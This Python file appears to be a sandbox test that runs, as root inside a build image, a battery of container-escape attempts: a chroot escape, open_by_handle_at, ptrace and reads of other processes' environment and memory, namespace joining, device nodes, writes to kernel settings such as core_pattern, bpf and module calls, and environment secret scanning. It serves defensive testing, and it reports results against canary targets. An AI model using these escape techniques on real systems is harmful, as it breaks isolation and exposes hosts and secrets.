"""What hostile code of a build step tries, as one program: `attack.py TARGETS`. Standard library only, Linux.

It runs in an image, as root, where a step, a wheel or a maintainer script would. TARGETS is a JSON file of
what the test has put on the machine: see machine_to_attack.py. It prints one line, a JSON object with what
it achieved, by the name of the attempt; an attempt that was refused is not in it.

Nothing that it does harms a machine: it reads, opens, or writes to files of the test.

Source: chroot(2), "this call does not change the current working directory"; capabilities(7); proc(5).
"""

import contextlib
import ctypes
import json
import os
import socket
import stat
import struct
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_OPEN_BY_HANDLE_AT = 304
SYS_INIT_MODULE, SYS_BPF, SYS_PERF_EVENT_OPEN, SYS_IOPL, SYS_SYSLOG, SYS_ADD_KEY = (
    175,
    321,
    298,
    172,
    103,
    248,
)
"""Numbers of x86-64. Source: arch/x86/entry/syscalls/syscall_64.tbl."""
USUAL_DEVICES = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2), (10, 229)}
"""null, zero, full, random, urandom, tty, ptmx; fuse, which is for everybody and of no use without mounting.

Source: devices.txt of the kernel."""
MS_REMOUNT, MS_BIND = 32, 4096
SELF = {str(os.getpid()), str(os.getppid())}


class RefusedError(Exception):
    """The attempt failed."""


def call(result: int) -> int:
    """Return what a call of the C library returned.

    Raises:
        RefusedError: it failed.
    """
    if result < 0:
        raise RefusedError(os.strerror(ctypes.get_errno()))
    return result


def leave_chroot(targets: dict[str, Any]) -> str:
    """Leave the root directory in a child process, and read and write the machine's files."""
    return _in_child(lambda: _leave_chroot(targets))


def leave_chroot_in_user_namespace(targets: dict[str, Any]) -> str:
    """Do so with the capabilities of a new user namespace."""

    def attempt() -> str:
        call(LIBC.unshare(CLONE_NEWUSER))
        return _leave_chroot(targets)

    return _in_child(attempt)


def _leave_chroot(targets: dict[str, Any]) -> str:
    with tempfile.TemporaryDirectory() as folder:
        here = os.open("/", os.O_RDONLY)
        os.chroot(folder)
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return _canary(targets)


def _canary(targets: dict[str, Any]) -> str:
    canary = Path(targets["canary"])
    found = canary.read_text()
    with contextlib.suppress(OSError):
        canary.write_text("overwritten")
    return found


def open_directories(targets: dict[str, Any]) -> str:
    """Use a directory outside that was left open."""
    for name in [path.name for path in Path("/proc/self/fd").iterdir()]:
        with contextlib.suppress(OSError):
            if stat.S_ISDIR(os.fstat(int(name)).st_mode):
                found = os.open("../" * 64 + targets["canary"].lstrip("/"), os.O_RDONLY, dir_fd=int(name))
                return os.read(found, 4096).decode()
    raise RefusedError


def file_handle(targets: dict[str, Any]) -> str:
    """Open the root of a mounted file system by its handle, which needs no path to it."""
    for path in ("/etc/hosts", "/", "/proc/self/mounts", *targets["mounts"]):
        with contextlib.suppress(OSError, RefusedError):
            there = os.open(path, os.O_RDONLY)
            handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + bytes(120)
            found = call(LIBC.syscall(SYS_OPEN_BY_HANDLE_AT, there, handle, os.O_RDONLY))
            return ",".join(os.listdir(found))  # noqa: PTH208 a descriptor
    raise RefusedError


def processes(targets: dict[str, Any]) -> str:
    """See processes of the machine."""
    return _some([text for pid in _pids() if targets["process"] in (text := _command_line(pid))])


def engine_processes(_targets: dict[str, Any]) -> str:
    """See processes of the engine."""
    return _some([text for pid in _pids() if "buildah" in (text := _command_line(pid))])


def _pids() -> list[str]:
    return [path.name for path in Path("/proc").iterdir() if path.name.isdigit()]


def _command_line(pid: str) -> str:
    try:
        return Path("/proc", pid, "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def roots_of_processes(targets: dict[str, Any]) -> str:
    """Read the machine's files through the root directory of another process."""
    for pid in _pids():
        with contextlib.suppress(OSError):
            if pid not in SELF:
                for way in ("root", "cwd"):
                    there = Path("/proc", pid, way, *(() if way == "root" else [".."] * 64))
                    return Path(f"{there}/{targets['canary'].lstrip('/')}").read_text()
    raise RefusedError


def trace(_targets: dict[str, Any]) -> str:
    """Trace a process that is not ours, or read its environment or memory."""
    for pid in _pids():
        if pid not in SELF and "attack" not in _command_line(pid):
            with contextlib.suppress(OSError):
                return f"environment of {pid}: {Path('/proc', pid, 'environ').read_bytes()[:60]!r}"
            with contextlib.suppress(OSError), Path("/proc", pid, "mem").open("rb"):
                return f"memory of {pid}"
            if LIBC.ptrace(PTRACE_ATTACH, int(pid), 0, 0) == 0:
                os.waitpid(int(pid), 0)
                LIBC.ptrace(PTRACE_DETACH, int(pid), 0, 0)
                return f"traced {pid}"
    raise RefusedError


def join_namespaces(_targets: dict[str, Any]) -> str:
    """Join a namespace of another process."""
    for pid in _pids():
        for kind in ("mnt", "net", "pid", "user"):
            with contextlib.suppress(OSError, RefusedError):
                if pid not in SELF:
                    there = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    _in_child(lambda there=there: str(call(LIBC.setns(there, 0))))
                    return f"{kind} of {pid}"
    raise RefusedError


def make_device(targets: dict[str, Any]) -> str:
    """Make a node of the disk, and of the machine's memory, and open it."""
    for kind, numbers in ((stat.S_IFBLK, tuple(targets["disk"])), (stat.S_IFCHR, (1, 1))):
        with tempfile.TemporaryDirectory() as folder, contextlib.suppress(OSError):
            path = f"{folder}/device"
            os.mknod(path, kind | 0o600, os.makedev(*numbers))
            return f"made {numbers}; read {_read(path)} bytes"
    raise RefusedError


def open_devices(_targets: dict[str, Any]) -> str:
    """Open a device that is there: a disk, a terminal of the machine, its memory, its log."""
    found = []
    for path in Path("/dev").rglob("*"):
        with contextlib.suppress(OSError):
            info = path.lstat()
            numbers = os.major(info.st_rdev), os.minor(info.st_rdev)
            if stat.S_ISBLK(info.st_mode) or (stat.S_ISCHR(info.st_mode) and numbers not in USUAL_DEVICES):
                if numbers[0] == 136:
                    continue  # its own terminal
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
                found.append(str(path))
    return _some(found)


def mounts(_targets: dict[str, Any]) -> str:
    """Mount something."""

    def attempt() -> str:
        with tempfile.TemporaryDirectory() as folder:
            if LIBC.mount(b"none", folder.encode(), b"tmpfs", 0, None) == 0:
                LIBC.umount(folder.encode())
                return "a tmpfs"
            call(LIBC.mount(b"/", folder.encode(), b"", MS_BIND, None))
            return "a bind mount"

    return _in_child(attempt)


def namespaces(_targets: dict[str, Any]) -> str:
    """Get new namespaces, and with a user namespace all capabilities in it."""

    def attempt() -> str:
        if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            return "a user namespace"
        call(LIBC.unshare(CLONE_NEWNS))
        return "a mount namespace"

    return _in_child(attempt)


def unmount(_targets: dict[str, Any]) -> str:
    """Unmount what hides files of /proc."""

    def attempt() -> str:
        for path in (b"/proc/kcore", b"/proc/sys", b"/etc/hosts", b"/proc"):
            if LIBC.umount2(path, 2) == 0:
                return path.decode()
        raise RefusedError

    return _in_child(attempt)


def write_kernel_settings(_targets: dict[str, Any]) -> str:
    """Open a setting of the whole machine for writing."""
    names = "core_pattern modprobe hotplug panic randomize_va_space printk hostname sysrq kptr_restrict"
    paths = [f"/proc/sys/kernel/{name}" for name in names.split()]
    paths += ["/proc/sys/vm/drop_caches", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/file-max"]
    paths += ["/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"]
    paths += [
        "/proc/bus/pci/devices",
        "/proc/mtrr",
        "/proc/acpi/wakeup",
        "/proc/scsi/scsi",
    ]
    return _some([path for path in paths if _opens(path, os.O_WRONLY)])


def write_sysfs(_targets: dict[str, Any]) -> str:
    """Open a file of /sys for writing, control groups among them."""
    found = []
    for root, folders, names in os.walk("/sys"):
        found += [path for name in names if _opens(path := f"{root}/{name}", os.O_WRONLY)]
        if len(found) > 3 or root.count("/") > 5:
            folders.clear()
    return _some(found)


def read_kernel(_targets: dict[str, Any]) -> str:
    """Read the kernel's memory, symbols with addresses, or log."""
    found = [f"{path}: {size}" for path in ("/proc/kcore", "/dev/mem", "/dev/kmsg") if (size := _read(path))]
    with contextlib.suppress(OSError), Path("/proc/kallsyms").open() as lines:
        if any(int(line.split()[0], 16) for _, line in zip(range(20), lines, strict=False)):
            found.append("addresses of the kernel")
    buffer = ctypes.create_string_buffer(4096)
    if LIBC.syscall(SYS_SYSLOG, 3, buffer, 4096) > 0:
        found.append("its log")
    return _some(found)


def kernel_calls(_targets: dict[str, Any]) -> str:
    """Make system calls that change or look into the kernel."""
    found = []
    for name, arguments, refusals in (
        ("init_module", (SYS_INIT_MODULE, b"", 0, b""), {1, 38}),
        ("bpf", (SYS_BPF, 0, b"\2" + bytes(119), 120), {1, 38}),
        ("perf_event_open", (SYS_PERF_EVENT_OPEN, bytes(112), 0, -1, -1, 0), {1, 13, 38}),
        ("iopl", (SYS_IOPL, 3), {1, 38}),
        ("add_key", (SYS_ADD_KEY, b"user", b"dockwright-attack", b"x", 1, -4), {1, 38}),
    ):
        ctypes.set_errno(0)
        if LIBC.syscall(*arguments) >= 0 or ctypes.get_errno() not in refusals:
            found.append(name)
    return _some(found)


def raw_sockets(_targets: dict[str, Any]) -> str:
    """Read and forge packets."""
    found = []
    for name, arguments in (
        ("packets", (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
        ("ICMP", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    ):
        with contextlib.suppress(OSError), socket.socket(*arguments):
            found.append(name)
    return _some(found)


def servers(targets: dict[str, Any]) -> str:
    """Talk to a server of the machine: on 127.0.0.1, on its address, on an abstract socket."""
    found = []
    for address in targets["servers"]:
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            client.connect(f"\0{address}" if isinstance(address, str) else tuple(address))
            found.append(str(address))
    return _some(found)


def shared_memory(targets: dict[str, Any]) -> str:
    """Attach to a memory segment of the machine."""
    call(LIBC.shmget(targets["segment"], 0, 0))
    return "found"


def write_inputs(targets: dict[str, Any]) -> str:
    """Change a file that the step may only read, or the time of it."""
    found = []
    for folder in targets["mounts"]:
        LIBC.mount(b"none", folder.encode(), b"", MS_REMOUNT | MS_BIND, None)
        for path in Path(folder).rglob("*"):
            with contextlib.suppress(OSError):
                os.utime(path)
                found.append(f"time of {path}")
            if path.is_file() and _opens(str(path), os.O_WRONLY):
                found.append(str(path))
    return _some(found)


def environment(targets: dict[str, Any]) -> str:
    """Read something of the machine in the environment."""
    words = targets["secrets"]
    return _some([name for name, value in os.environ.items() if any(word in name + value for word in words)])


ATTEMPTS: tuple[Callable[[dict[str, Any]], str], ...] = (
    leave_chroot,
    leave_chroot_in_user_namespace,
    open_directories,
    file_handle,
    processes,
    engine_processes,
    roots_of_processes,
    trace,
    join_namespaces,
    make_device,
    open_devices,
    mounts,
    namespaces,
    unmount,
    write_kernel_settings,
    write_sysfs,
    read_kernel,
    kernel_calls,
    raw_sockets,
    servers,
    shared_memory,
    write_inputs,
    environment,
)


def _some(found: list[str]) -> str:
    if not found:
        raise RefusedError
    return ", ".join(found[:6])


def _opens(path: str, flags: int) -> bool:
    """Whether a file can be opened that is not hidden by /dev/null."""
    try:
        there = os.open(path, flags | os.O_NONBLOCK)
    except OSError:
        return False
    info = os.fstat(there)
    os.close(there)
    return not (stat.S_ISCHR(info.st_mode) and os.major(info.st_rdev) == 1)


def _read(path: str) -> int:
    try:
        there = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        return len(os.read(there, 4096))
    except OSError:
        return 0


def _in_child(attempt: Callable[..., str]) -> str:
    """Return what `attempt` returns in a child process, whose changes end with it."""
    ours, its = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(its, attempt().encode())
        except BaseException:
            os._exit(1)
        os._exit(0)
    os.close(its)
    with os.fdopen(ours) as pipe:
        found = pipe.read()
    if os.waitpid(pid, 0)[1]:
        raise RefusedError
    return found


def state() -> Iterator[tuple[str, str]]:
    """Yield what the kernel says of this process."""
    for line in Path("/proc/self/status").read_text().splitlines():
        name, _, value = line.partition(":\t")
        if name in {"CapEff", "CapBnd", "NoNewPrivs", "Seccomp"}:
            yield name, value


def loopback() -> bool:
    """Whether a program reaches itself on 127.0.0.1."""
    with socket.socket() as server, socket.socket() as client:
        server.bind(("127.0.0.1", 0))
        server.listen()
        client.settimeout(2)
        return client.connect_ex(server.getsockname()) == 0


def main(path: str) -> None:
    """Make all attempts and print what was achieved."""
    targets = json.loads(Path(path).read_text())
    achieved: dict[str, str] = {}
    for attempt in ATTEMPTS:
        with contextlib.suppress(OSError, RefusedError):
            achieved[attempt.__name__] = attempt(targets)
    print(json.dumps({"achieved": achieved, "state": dict(state()), "loopback": loopback()}))


if __name__ == "__main__":
    main(sys.argv[1])
